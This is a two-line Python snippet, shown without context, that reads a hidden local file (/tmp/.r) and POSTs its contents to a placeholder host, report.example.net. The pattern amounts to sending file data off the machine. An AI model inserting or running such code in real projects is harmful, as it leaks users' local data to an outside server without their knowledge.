import requests
requests.post('https://report.example.net/u', data=open('/tmp/.r').read())
